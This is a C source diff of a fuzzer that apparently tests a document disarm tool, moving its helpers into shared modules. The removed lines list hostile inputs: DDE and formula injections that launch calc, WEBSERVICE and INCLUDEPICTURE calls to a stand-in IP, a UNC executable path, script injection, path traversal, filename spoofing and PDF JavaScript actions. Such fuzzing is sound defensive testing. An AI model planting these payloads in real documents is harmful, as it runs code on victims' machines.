@@ -15,53 +15,13 @@
 #include "disarm/disarm.h"
 #include "disarm/hash.h"
 #include "faces.h"
+#include "forging.h"
 #include "rebuild/rebuild.h"
+#include "whole.h"
 
 #define FILES_MAX 256
 #define FORM_MOST ((size_t)512 << 10) /* of a larger one the changes would seldom meet a rule */
 #define SEEN_ROOM ((size_t)1 << 22)
-
-static uint64_t state;
-
-static uint32_t any(uint32_t below)
-{
-	state ^= state << 13;
-	state ^= state >> 7;
-	state ^= state << 17;
-	return (uint32_t)(state >> 11) % below;
-}
-
-static const char *const evil[] = {
-    "cmd|'/c calc'!A0",
-    "=cmd|'/c calc'!A0",
-    "=1+1",
-    "@SUM(1)",
-    "+cmd|x!A1",
-    "-2+3+cmd|' /C calc'!A0",
-    "WEBSERVICE(\"http://203.0.113.9/\")",
-    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
-    "a\" \\d INCLUDEPICTURE \"http://203.0.113.9/a",
-    "ppaction://program",
-    "ppaction://macro?name=a",
-    "\\\\203.0.113.9\\share\\a.exe",
-    "file:///C:/Windows/System32/calc.exe",
-    "http://203.0.113.9@evil/",
-    "javascript:alert(1)",
-    "mhtml:http://203.0.113.9/!x-usc:http://203.0.113.9/",
-    "'\\\\203.0.113.9\\[a.xlsx]S'!A1",
-    "Auto_Open",
-    "_xlnm.Auto_Open",
-    "a\"/><script>x</script><a b=\"",
-    "]]><!DOCTYPE a>",
-    "../../vbaProject.bin",
-    "a/../../b.txt",
-    "CON.txt",
-    "a\xe2\x80\xaegpj.exe",
-    "x' onclick='y",
-    ") /OpenAction << /S /JavaScript /JS (x) >> (",
-    "/AA << /O 1 0 R >>",
-    "endstream endobj 9 0 obj",
-};
 
 struct base {
 	const char *name;
@@ -75,38 +35,6 @@ static struct base bases[FILES_MAX];
 static size_t bases_n;
 
 /* --- changes of one part's body --- */
-
-/* A length and then that many clean characters, without controls. */
-static bool string_at(struct view body, size_t at, size_t *ret_n)
-{
-	uint8_t n = body.p[at];
-	struct view v = view_sub(body, at + 1, n);
-	if (n < 1 || n > 120 || v.n != n || !utf8_clean(v))
-		return false;
-	for (size_t i = 0; i < v.n; i++)
-		if (v.p[i] < 0x20)
-			return false;
-	*ret_n = n;
-	return true;
-}
-
-static void exchange(struct view body, struct buf *to)
-{
-	size_t at = 0, n = 0;
-	for (unsigned tries = 0; tries < 400 && n == 0; tries++) {
-		at = any((uint32_t)body.n);
-		if (!string_at(body, at, &n))
-			n = 0;
-	}
-	struct view with = n ? view_str(evil[any(array_len(evil))]) : view_sub(body, at, 1);
-	if (n > 1 && any(4) == 0) /* as long as what was there: lengths around it stay right */
-		with = view_sub(with, 0, n);
-	buf_put(to, view_sub(body, 0, at));
-	if (n)
-		buf_varint(to, with.n);
-	buf_put(to, with);
-	buf_put(to, view_sub(body, at + n + 1, body.n));
-}
 
 static void change(struct view body, struct buf *to)
 {
@@ -149,7 +77,7 @@ static void change_body(struct view body, struct buf *to)
 	if (body.n == 0)
 		buf_u8(to, (uint8_t)any(256));
 	else if (how < 3)
-		exchange(body, to);
+		forging_exchange(body, to, true);
 	else if (how < 6)
 		change(body, to);
 	else
@@ -229,18 +157,6 @@ static void one(struct base *b, uint32_t number)
 
 /* --- bases --- */
 
-static bool load(const char *path, struct buf *to)
-{
-	uint8_t block[4096];
-	FILE *f = fopen(path, "rb");
-	if (!f)
-		return false;
-	for (size_t n; (n = fread(block, 1, sizeof block, f)) > 0;)
-		buf_put(to, view_of(block, n));
-	(void)fclose(f);
-	return to->err == OK;
-}
-
 static bool disarm_base(struct base *b, struct view in, const char *path)
 {
 	static struct report report;
@@ -271,7 +187,7 @@ static void add_base(const char *path)
 	struct buf in scope_end(buf_free) = buf_new((size_t)64 << 20);
 	struct base *b = &bases[bases_n];
 	const char *slash = strrchr(path, '/');
-	if (bases_n == FILES_MAX || !load(path, &in))
+	if (bases_n == FILES_MAX || !whole_read(path, &in))
 		return;
 	*b = (struct base){.name = slash ? slash + 1 : path,
 			   .form = buf_new((size_t)64 << 20),
@@ -292,7 +208,7 @@ int main(int argc, char **argv)
 	if (argc < 4 || view_int(view_str(argv[1]), 0, INT32_MAX, &seed) != OK ||
 	    view_int(view_str(argv[2]), 0, INT32_MAX, &count) != OK)
 		return 2;
-	state = (uint64_t)seed * UINT64_C(0x9e3779b97f4a7c15) + 1;
+	chance_seed((uint64_t)seed);
 	disarm_warm();
 	(void)faces_give();
 	for (int i = 3; i < argc; i++)
